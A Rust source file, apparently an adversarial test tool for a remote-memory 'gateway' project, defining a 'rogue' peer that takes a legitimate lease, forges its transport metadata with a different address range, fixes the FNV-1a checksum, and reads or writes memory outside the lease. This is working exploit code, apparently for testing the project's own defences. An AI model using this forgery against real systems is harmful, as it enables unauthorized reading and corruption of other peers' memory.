//! A peer that has a lease of a small object, and wants more: it edits the addresses in what it was
//! given, and reads or writes there.

use std::net::IpAddr;
use std::process::ExitCode;
use std::sync::Arc;
use std::time::{Duration, Instant};

use gateway::message::{Ask, Incarnation, Wanted};
use gateway::net::call::{Answer, Question, ask};
use gateway::net::key::Gateway;
use gateway::net::session::{Address, Network, Trust};
use gateway::program::args::Carrier;
use gateway::transport::nixl::Nixl;
use gateway::transport::tcp::{Faults, Tcp};
use gateway::transport::{Pair, Place, Progress, RemoteSpan, Span, Transport};

use crate::watch;

/// How long the rogue waits for bytes. Its victim may have died, or never answer.
const PATIENCE: Duration = Duration::from_secs(3);

/// What it does.
#[derive(clap::Args)]
pub struct Rogue {
    #[arg(long)]
    at: Address,
    #[arg(long)]
    host: String,
    #[arg(long)]
    incarnation: String,
    /// Its own address.
    #[arg(long)]
    own: IpAddr,
    #[arg(long, value_enum)]
    carrier: Carrier,
    /// Where it reads or writes; else at the object's own address.
    #[arg(long)]
    address: Option<u64>,
    #[arg(long)]
    bytes: u64,
    #[arg(long)]
    write: bool,
    /// What it has a lease of.
    name: String,
}

impl Rogue {
    /// Does it, and prints what it got in hexadecimal, or why it got nothing.
    ///
    /// # Errors
    ///
    /// It never came so far.
    pub fn run(&self) -> Result<ExitCode, String> {
        let text = |e: serde_json::Error| e.to_string();
        let incarnation = serde_json::from_value(self.incarnation.clone().into()).map_err(text)?;
        let gateway = Gateway {
            host: self.host.clone(),
            incarnation,
        };
        let network = Network {
            listen: None,
            peers: vec![self.at],
            trust: Trust::Everybody,
        };
        let session = network.open().map_err(|e| e.to_string())?;
        let question = Question::Ask(Ask {
            asker: Incarnation([0x66; 16]),
            host: "rogue".into(),
            number: 1,
            wanted: Wanted {
                name: self.name.clone(),
                epoch: None,
                identity: None,
            },
            others: 0,
            last_resort: false,
        });
        let answered = watch::until("a lease", || {
            let answered = ask(&session, &gateway, &question, watch::WATCHDOG)
                .ok()?
                .wait()?;
            matches!(answered.answer, Answer::Granted(_)).then_some(answered)
        })?;
        let Answer::Granted(granted) = &answered.answer else {
            return Err("no lease".into());
        };
        let (own, bytes, _) = granted.regions[0];
        let target = self.address.unwrap_or(own);
        let metadata = &answered.attached[granted.manifest..];
        let forged = forge(metadata, (own, bytes), (target, self.bytes));
        match self.attack(&forged, target) {
            Ok(got) => println!(
                "got {}",
                got.iter().map(|b| format!("{b:02x}")).collect::<String>()
            ),
            Err(why) => println!("nothing: {why}"),
        }
        // Bytes may be under way yet.
        std::process::exit(0);
    }

    fn attack(&self, metadata: &[u8], target: u64) -> Result<Vec<u8>, String> {
        let text = |e: gateway::Error| e.to_string();
        let transport: Arc<dyn Transport> = match self.carrier {
            Carrier::Tcp => {
                if self.write {
                    return Err("plain TCP has no writes".into());
                }
                Arc::new(Tcp::listen(self.own, Faults::default()).map_err(text)?)
            }
            Carrier::Nixl => {
                let name = format!("rogue-{}", std::process::id());
                let mut nixl = Nixl::start(&name, None).map_err(text)?;
                if self.write {
                    nixl.set_writes();
                }
                Arc::new(nixl)
            }
        };
        let memory = vec![0x66_u8; self.bytes as usize].leak();
        let to = Span {
            address: memory.as_mut_ptr() as u64,
            bytes: self.bytes,
            place: Place::Host,
        };
        // SAFETY: `register`: the memory is leaked.
        let _registration = unsafe { transport.register(&[to]) }.map_err(text)?;
        let peer = transport.load_peer(metadata).map_err(text)?;
        let from = RemoteSpan {
            address: target,
            bytes: self.bytes,
            place: Place::Host,
        };
        // SAFETY: `read`: the destination is leaked, and used by nobody before the end.
        let mut transfer = unsafe { peer.read(&[Pair { from, to }]) }.map_err(text)?;
        let begun = Instant::now();
        while transfer.poll().map_err(text)? != Progress::Done {
            if begun.elapsed() > PATIENCE {
                std::mem::forget(transfer);
                return Err("nothing came".into());
            }
            std::thread::yield_now();
        }
        Ok(memory.to_vec())
    }
}

/// Puts another range in the place of a lease's, wherever metadata name it, and makes their check
/// right: FNV-1a, as any peer can.
fn forge(metadata: &[u8], (address, bytes): (u64, u64), to: (u64, u64)) -> Vec<u8> {
    let mut forged = metadata.to_vec();
    let replace = |forged: &mut [u8], from: u64, to: u64| {
        let (from, to) = (from.to_le_bytes(), to.to_le_bytes());
        let mut at = 0;
        while at + 8 <= forged.len() {
            if forged[at..at + 8] == from {
                forged[at..at + 8].copy_from_slice(&to);
            }
            at += 1;
        }
    };
    replace(&mut forged, address, to.0);
    replace(&mut forged, bytes, to.1);
    if let Some((all, check)) = forged.split_last_chunk_mut::<8>() {
        let hash = all.iter().fold(0xcbf2_9ce4_8422_2325_u64, |hash, &byte| {
            (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
        });
        if metadata.starts_with(b"gipcnix") {
            *check = hash.to_le_bytes();
        }
    }
    forged
}
